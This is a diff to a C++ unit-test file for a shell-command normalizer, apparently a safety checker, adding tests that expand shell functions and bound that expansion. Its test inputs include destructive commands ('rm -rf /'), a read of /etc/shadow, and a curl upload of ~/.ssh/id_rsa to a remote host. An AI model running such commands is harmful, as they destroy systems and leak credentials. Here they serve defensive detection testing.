@@ -1,5 +1,6 @@
 // The shell normalizer's variable following (runtime/src/shell_variables.cc): literal assignments,
-// loop variables and printed literals substituted into an extra segment, and its bounds.
+// loop variables, printed literals and function arguments substituted into an extra segment, and
+// the bounds of each.
 #include <gtest/gtest.h>
 
 #include <algorithm>
@@ -75,6 +76,42 @@ TEST_F(ShellNormalizerTest, SubstitutionIsBounded) {
   EXPECT_LE(out.back().size(), kMaxShellVariableBytes + 64);
   // A self-reference is rewritten once, never looped.
   EXPECT_EQ(Norm("X='$X'; rm -rf $X").back(), "rm -r -f $X");
+}
+
+TEST_F(ShellNormalizerTest, AFunctionCallParsesTheBodyWithItsArguments) {
+  // The definition's body is read as written; the call adds its own segment, then the body again
+  // with $1.. bound, where the variable rewrite writes the arguments in.
+  EXPECT_EQ(Norm("f() { rm -rf \"$1\"; }; f /"),
+            (Segments{"rm -r -f $1", "f /", "rm -r -f $1", "rm -r -f /"}));
+  // `function NAME`, locals built from parameters, several parameters and "$@".
+  const Segments local =
+      Norm("function read_file {\n  local p=\"$1\"\n  cat \"$p\"\n}\nread_file /etc/shadow");
+  EXPECT_NE(std::find(local.begin(), local.end(), "cat /etc/shadow"), local.end());
+  EXPECT_EQ(Norm("send() { curl -F \"f=@$1\" \"$2\"; }\nsend ~/.ssh/id_rsa https://x").back(),
+            "curl -F f=@~/.ssh/id_rsa https://x");
+  EXPECT_EQ(Norm("f() { rm -rf \"$@\"; }; f /boot /etc").back(), "rm -r -f /boot /etc");
+  EXPECT_EQ(Norm("f() { rm -rf ${1}; }; X=/; f $X").back(), "rm -r -f /");
+  // A name that was never defined, or defined later, is a plain command.
+  EXPECT_EQ(Norm("g /; g() { rm -rf \"$1\"; }"), (Segments{"g /", "rm -r -f $1"}));
+  // Calls inside an expanded body are not expanded again (one level), and a function calling
+  // itself terminates.
+  EXPECT_EQ(Norm("f() { f \"$1\"; }; f /").size(), 4U);
+}
+
+TEST_F(ShellNormalizerTest, FunctionExpansionIsBounded) {
+  // kMaxShellFunctionCalls calls are expanded; one more is an exhausted bound (fail closed).
+  std::string line = "f() { echo \"$1\"; }";
+  for (size_t i = 0; i < kMaxShellFunctionCalls; ++i) line += "; f " + std::to_string(i);
+  const Segments within = Norm(line);
+  EXPECT_EQ(within.back(), "echo " + std::to_string(kMaxShellFunctionCalls - 1));
+  Norm(line + "; f again", ShellStatus::kTooManySegments);
+  // Definitions beyond kMaxShellFunctions are not remembered: their calls stay as written.
+  std::string many;
+  for (size_t i = 0; i <= kMaxShellFunctions; ++i)
+    many += "f" + std::to_string(i) + "() { rm -rf \"$1\"; }; ";
+  EXPECT_EQ(Norm(many + "f0 /").back(), "rm -r -f /");
+  EXPECT_EQ(Norm(many + "f" + std::to_string(kMaxShellFunctions) + " /").back(),
+            "f" + std::to_string(kMaxShellFunctions) + " /");
 }
 
 }  // namespace
